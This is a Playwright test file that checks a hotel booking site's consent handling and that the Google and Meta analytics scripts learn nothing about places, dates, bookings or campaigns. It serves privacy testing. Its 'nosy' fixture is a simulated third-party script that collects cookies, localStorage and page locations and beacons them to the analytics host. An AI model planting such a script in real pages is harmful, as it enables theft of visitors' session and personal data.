import { expect, type Page, type Request } from '@playwright/test'
import { bookThroughCalls, freeHotel } from './book-through-calls.ts'
import { expectSoundPage, test as base } from './check-page.ts'
import { startOwnSite, type OwnSite } from './own-site.ts'
import { signedIn } from './guest.ts'
import { openCounting, openFooter } from './open-footer.ts'

const test = base.extend<object, { site: OwnSite }>({
  site: [
    async ({ playwright: _playwright }, provide) => {
      const site = await startOwnSite('serve-counted.ts')
      await provide(site)
      await site.close()
    },
    { scope: 'worker', timeout: 120_000 },
  ],
  baseURL: async ({ site }, provide) => provide(site.origin),
})

const OTHERS = /googletagmanager|google-analytics|facebook/

/**
 * A third party's script that reports everything that it can reach: its address, the page around it, stored values, and
 * every event.
 */
const nosy = (home: string) => `(() => {
  const all = () => {
    const reach = {
      here: () => location.href, base: () => document.baseURI, from: () => document.referrer, title: () => document.title,
      around: () => [...(location.ancestorOrigins ?? [])].join(), parent: () => parent.location.href,
      parentTitle: () => parent.document.title, top: () => top.location.pathname, cookie: () => document.cookie,
      stored: () => JSON.stringify(localStorage), past: () => String(history.length),
      timings: () => performance.getEntries().map(({ name }) => name).filter((name) => !/seen|told/.test(name)).join(),
      layer: () => JSON.stringify(globalThis.dataLayer), pixel: () => JSON.stringify(globalThis.fbq?.queue),
    }
    return JSON.stringify(Object.entries(reach).map(([name, look]) => { try { return [name, look()] } catch (error) { return [name, error.name] } }))
  }
  const send = (why) => {
    new Image().src = '${home}/seen?' + new URLSearchParams({ why, all: all() })
    fetch('${home}/told', { method: 'POST', mode: 'no-cors', keepalive: true, body: all() }).catch(() => {})
  }
  addEventListener('popstate', () => send('popstate')); addEventListener('hashchange', () => send('hashchange'))
  addEventListener('message', ({ data }) => send(JSON.stringify(data)))
  setInterval(() => send('again'), 500)
  send('started')
})()`

/** Answers every request to third parties, and records its address, referrer, origin and body. */
async function listen(page: Page): Promise<string[]> {
  const sent: string[] = []
  const write = async (request: Request) => {
    const headers = await request.allHeaders()
    sent.push(
      decodeURIComponent(
        `${request.url()} ${headers['referer'] ?? ''} ${headers['origin'] ?? ''} ${request.postData() ?? ''}`.replaceAll(
          '+',
          ' ',
        ),
      ),
    )
  }
  await page.context().route(OTHERS, async (route) => {
    await write(route.request())
    const home = route.request().url().includes('facebook')
      ? 'https://www.facebook.com'
      : 'https://www.google-analytics.com'
    const isScript = route.request().resourceType() === 'script'
    await route.fulfill(isScript ? { contentType: 'text/javascript', body: nosy(home) } : { status: 204, body: '' })
  })
  return sent
}

/** Whether the event's name was sent, in the event itself or in what the third party's script found. */
const heard = (sent: readonly string[], event: string) => sent.some((line) => line.includes(event))

test(
  'Google and Meta get the names of events, and nothing about place, time or stay',
  { tag: ['@once', '@long'] },
  async ({ page }) => {
    test.setTimeout(180_000)
    const sent = await listen(page)
    const inPages: string[] = []
    page.on('request', (request) => {
      if (OTHERS.test(request.url()) && request.frame() === page.mainFrame()) inPages.push(request.url())
    })

    await page.goto('/hotels-in-pune?utm_campaign=diwali')
    await page.waitForTimeout(2500)
    expect(sent, 'before the visitor agreed').toEqual([])
    await (await openCounting(page)).getByRole('button', { name: 'Allow analytics' }).click()
    await expect.poll(() => heard(sent, 'page_view')).toBe(true)
    expect(sent.some((line) => line.startsWith('https://connect.facebook.net/'))).toBe(true)
    await expectSoundPage(page)

    await (await openFooter(page)).getByRole('link', { name: 'Team' }).click()
    await expect(page).toHaveURL('/team')
    await page.locator('a[href="/"]:visible').first().click()
    await expect(page).toHaveURL('/')
    // Waits for the scripts, because without them the form works but sends no event.
    await page.waitForLoadState('networkidle')
    const finder = page.getByRole('form', { name: 'Find a hotel' })
    await finder.getByRole('button', { name: 'Search hotels' }).click()
    await expect(page).toHaveURL(/\/search-results\?/)
    const search = new URL(page.url()).searchParams
    await expect.poll(() => heard(sent, 'search')).toBe(true)
    await page.getByRole('article').getByRole('link').first().click()
    await expect(page).toHaveURL(/\/hotel\//)
    const slug = /\/hotel\/([^/?#]+)/.exec(page.url())?.[1] ?? ''
    const onHotel = sent.length
    await expect.poll(() => sent.length).toBeGreaterThan(onHotel + 2)
    await page.goBack()
    await expect(page).toHaveURL(/\/search-results\?/)

    const token = await signedIn(page)
    const booking = await bookThroughCalls({ page, token }, await freeHotel({ page, token }, {}, [3]))
    for (const path of [
      '/my-bookings',
      '/my-favourites',
      `/confirm-booking?bookingid=${booking.id}`,
      '/team',
      '/privacy-policy',
    ]) {
      const before = sent.length
      await page.goto(path)
      await expect.poll(() => sent.length).toBeGreaterThan(before + 2)
    }
    expect(slug).not.toBe('')
    const secrets = [
      slug,
      booking.id,
      'utm_',
      'diwali',
      'hotels-in',
      '/hotel/',
      'search-results',
      'booking?',
      'confirm-booking?',
      'bookingid',
      'my-',
      'checkin',
      ...search.values(),
    ]
    for (const line of sent) {
      for (const secret of secrets.filter((word) => word.length > 2)) expect(line).not.toContain(secret)
      expect(line).not.toMatch(/\b20\d\d-\d\d-\d\d/)
    }
    expect(inPages, 'asked for by a page itself').toEqual([])

    await (await openCounting(page)).getByRole('button', { name: 'Turn off' }).click()
    await expect(page.getByRole('contentinfo').getByText('They are off.')).toBeVisible()
    await expect(page.locator('iframe')).toHaveCount(0)
    const afterwards = sent.length
    await page.waitForTimeout(1500)
    expect(sent.length, 'told after it was turned off').toBe(afterwards)
    await page.getByRole('contentinfo').getByRole('button', { name: 'Allow analytics' }).click()
    await expect.poll(() => sent.length).toBeGreaterThan(afterwards)
  },
)

test(
  'the analytics frame has no origin, even when opened by its address',
  { tag: ['@once', '@long'] },
  async ({ page }) => {
    await listen(page)
    const answer = await page.goto('/counting-frame')
    expect(answer?.headers()['referrer-policy']).toBe('no-referrer')
    expect(answer?.headers()['content-security-policy']).toContain('sandbox allow-scripts;')
    expect(await page.evaluate(() => globalThis.origin)).toBe('null')
    const start = await page.goto('/')
    expect(start?.headers()['referrer-policy']).toBe('strict-origin')
    expect(start?.headers()['content-security-policy']).not.toMatch(OTHERS)
  },
)
